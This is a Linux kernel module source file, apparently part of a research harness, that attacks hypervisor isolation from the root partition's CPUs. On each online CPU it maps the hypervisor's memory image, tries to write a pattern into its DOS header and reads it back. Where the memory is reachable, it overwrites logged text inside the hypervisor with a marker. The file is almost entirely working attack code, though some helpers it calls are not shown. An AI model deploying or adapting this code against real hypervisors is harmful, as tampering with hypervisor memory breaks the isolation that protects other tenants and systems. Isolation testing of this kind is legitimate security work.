// SPDX-License-Identifier: GPL-2.0
/*
 * attack=cpus: what each CPU of the root sees of the hypervisor's memory.
 * The hypervisor runs the boot CPU as the root's VP; a CPU that the root's
 * kernel started itself, with INIT and SIPI through its local APIC, runs
 * wherever the root put it.
 */
#include "attack.h"

#include <linux/cpumask.h>
#include <linux/io.h>
#include <linux/kernel.h>
#include <linux/string.h>
#include <asm/asm.h>
#include <asm/processor.h>
#include <asm/trapnr.h>

#define STORE_PATTERN	 0x5645524f4f540002ULL
#define DOS_HEADER_SPARE 4 /* qword 4 of "MZ": e_res, never read */
#define CPU_MARKER	 "ATTACK-CPU WROTE HERE"

struct cpu_view {
	u8 *image; /* the first IMAGE_SCAN_BYTES of the hypervisor's memory */
	int cpu;
};

static const char *outcome(long vector)
{
	if (vector == NO_FAULT)
		return "ok";
	return vector == X86_TRAP_GP ? "gp" : "fault";
}

/* Puts the marker over the logged words where this CPU finds them. */
static void overwrite_logged_words(struct cpu_view *v)
{
	long at = find_logged_text(v->image, IMAGE_SCAN_BYTES);

	if (at < 0) {
		pr_info("cpu %d logged-text not-found\n", v->cpu);
		return;
	}
	memcpy(v->image + at, CPU_MARKER, strlen(LOGGED_WORDS));
	pr_info("cpu %d logged-text offset=0x%lx overwritten\n", v->cpu, at);
}

static long look(void *arg)
{
	struct cpu_view *v = arg;
	u64 *qwords = (u64 *)v->image;
	u64 first = READ_ONCE(qwords[0]), before, after;
	long fault;

	before = READ_ONCE(qwords[DOS_HEADER_SPARE]);
	fault = try_store(&qwords[DOS_HEADER_SPARE], STORE_PATTERN);
	mb();
	after = READ_ONCE(qwords[DOS_HEADER_SPARE]);
	if (fault == NO_FAULT)
		WRITE_ONCE(qwords[DOS_HEADER_SPARE], before);
	pr_info("cpu %d cpuid-svm %u hv-first=0x%llx store=%s "
		"store-readback=0x%llx\n",
		v->cpu, (cpuid_ecx(0x80000001) >> 2) & 1, first, outcome(fault),
		after);
	if (first)
		overwrite_logged_words(v);
	return 0;
}

static void look_from(int cpu, struct cpu_view *v)
{
	v->cpu = cpu;
	on_cpu(cpu, look, v);
}

void attack_cpus(const struct hv_region *hv)
{
	struct cpu_view v;
	int cpu;

	v.image = memremap(hv->base, IMAGE_SCAN_BYTES, MEMREMAP_WB);
	if (!v.image) {
		pr_info("FAIL hv-region unmappable\n");
		return;
	}
	pr_info("cpus online=%u\n", num_online_cpus());
	for (cpu = 0; cpu < nr_cpu_ids; cpu++)
		if (cpu_online(cpu))
			look_from(cpu, &v);
	pr_info("cpu 0 vmrun %s\n",
		vmrun_on_root_vp() == X86_TRAP_UD ? "ud" : "other");
	memunmap(v.image);
}
